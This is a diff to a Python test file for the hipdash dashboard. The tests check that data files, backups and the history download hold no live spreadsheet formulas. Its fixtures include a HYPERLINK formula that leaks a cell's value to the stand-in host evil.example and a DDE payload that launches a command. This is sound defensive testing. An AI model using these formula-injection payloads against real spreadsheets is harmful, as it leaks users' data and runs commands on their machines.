@@ -18,7 +18,7 @@ from hipdash.backup import make_backup, read_backup
 from hipdash.log import Change, CheckoffLog
 from hipdash.sessions import SessionDetails, SessionLog
 
-from .test_progress_page import MON, R, open_tab, progress_page
+from .conftest import MON, TODAY, R, open_tab
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
 CALC = "+cmd|' /C calc'!A0"
@@ -98,7 +98,10 @@ def test_the_data_files_and_the_backup_hold_no_live_formula(hostile, data_dir):
     assert marks[MON - timedelta(days=2)].reason == "-1 day off"
 
 
-def test_the_history_download_is_inert_and_the_tables_own_export_is_off(hostile, data_dir):
+def test_the_history_download_is_inert_and_the_tables_own_export_is_off(
+    hostile, data_dir, monkeypatch, progress_page
+):
+    monkeypatch.setenv("HIPDASH_TODAY", TODAY.isoformat())  # MON's week is in the range
     at = open_tab(progress_page(), "History")
     table = at.dataframe[0].value
     assert LEAK in table["Note"].tolist()  # the page shows the note as typed
